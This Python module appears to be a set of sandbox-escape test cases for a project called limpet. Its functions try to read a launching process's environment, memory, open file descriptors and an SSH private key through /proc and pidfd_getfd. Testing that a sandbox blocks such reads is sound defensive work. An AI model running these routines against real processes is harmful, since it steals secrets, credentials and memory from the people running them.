"""Ways to get at whoever started the command: what it was given, what it holds, what it sees.

Behind walls that is the first process there, which is a part of limpet; without, the shell that was told not to pass on
its environment.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

from attack.escapes.deed import Loot, Victim, deed, launcher
from limpet.kernel.syscalls import call


def place(victim: Victim) -> str:
    return f"/proc/{launcher(victim)}"


@deed("launcher")
def read_the_launchers_environment(victim: Victim) -> Loot:
    return Path(place(victim), "environ").read_bytes()


@deed("launcher")
def read_the_launchers_memory(victim: Victim) -> Loot:
    found = []
    fd = os.open(place(victim) + "/mem", os.O_RDONLY)
    for line in Path(place(victim), "maps").read_text().splitlines():
        match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if match:
            start, end = (int(text, 16) for text in match.groups())
            found.append(os.pread(fd, min(end - start, 1 << 22), start))
    return b"".join(found)


@deed("launcher")
def read_what_the_launcher_has_open(victim: Victim) -> Loot:
    found = b""
    for entry in os.listdir(place(victim) + "/fd"):
        try:
            fd = os.open(f"{place(victim)}/fd/{entry}", os.O_RDONLY | os.O_NONBLOCK)
            found += os.pread(fd, 1 << 16, 0)
        except OSError:
            continue
    return found


@deed("launcher")
def take_what_the_launcher_has_open(victim: Victim) -> Loot:
    held = os.pidfd_open(launcher(victim))
    found = b""
    refused: OSError | None = None
    for number in range(32):
        try:
            found += os.pread(call("pidfd_getfd", held, number, 0), 1 << 16, 0)
        except OSError as error:
            refused = error
    if not found and refused:
        raise refused
    return found


@deed("launcher")
def read_by_the_launchers_root(victim: Victim) -> Loot:
    return Path(place(victim) + "/root" + victim["hidden"]).read_bytes()


@deed("launcher")
def read_by_the_launchers_folder(victim: Victim) -> Loot:
    return Path(place(victim) + "/cwd/../../home/.ssh/id_ed25519").read_bytes()
